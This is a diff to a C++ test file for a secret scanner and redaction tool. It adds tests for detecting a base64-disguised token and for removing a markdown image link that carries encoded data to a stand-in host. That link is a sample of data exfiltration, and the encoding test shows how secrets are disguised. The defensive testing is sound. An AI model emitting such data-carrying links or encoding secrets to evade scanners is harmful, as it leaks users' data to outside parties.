@@ -2,9 +2,12 @@
 
 #include <doctest/doctest.h>
 
+#include <cstddef>
 #include <ctime>
+#include <span>
 #include <string>
 
+#include "base/bytes.h"
 #include "inspect/detail/example.h"
 #include "inspect/redact.h"
 #include "json/write.h"
@@ -200,6 +203,35 @@ TEST_CASE("texts built to be slow end early and are reported as not inspected") 
   time("AKIA");
   time("0Q~");
   CHECK(time("https://example.test/some/path?x=1 and more words here\n"));
+}
+
+TEST_CASE("rules look behind a disguise") {
+  const std::string text = "the token is " + token;
+  const std::string encoded = base::to_base64(std::as_bytes(std::span(text)));
+  const auto document = parsed(R"({"a": "see )" + encoded + R"( there"})");
+  const Findings findings = scan(scanner(), Surface::result, document.root());
+  REQUIRE(findings.items.size() == 1);
+  CHECK(findings.items[0].rule == "github-pat");
+  CHECK(findings.items[0].pointer == "/a");
+  CHECK(findings.items[0].begin == 4);
+  CHECK(findings.items[0].end == 4 + encoded.size());
+  CHECK_FALSE(findings.items[0].excerpt.contains(token));
+  REQUIRE(findings.revealed.size() == 1);
+  CHECK(findings.revealed[0] == "the token is " + token);
+  const auto edits = redact(document.root(), findings, {});
+  REQUIRE(edits.size() == 1);
+  CHECK_FALSE(edits[0].text.contains(encoded));
+}
+
+TEST_CASE("an address that carries data is taken out with what fetches it") {
+  const auto document = parsed(
+      R"(["![x](https://x.test/p.png?data=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMzQ1Njc4OTAxMjM0NTY3ODkw) ok"])");
+  const Findings findings = scan(scanner(), Surface::result, document.root());
+  CHECK(findings.has(FindingKind::exfiltration));
+  CHECK(redact(document.root(), findings, {}).empty());
+  const auto edits = redact(document.root(), findings, {.links = true});
+  REQUIRE(edits.size() == 1);
+  CHECK(edits[0].text == R"("<redacted:result-image-address> ok")");
 }
 
 TEST_CASE("bare texts are scanned and redacted too") {
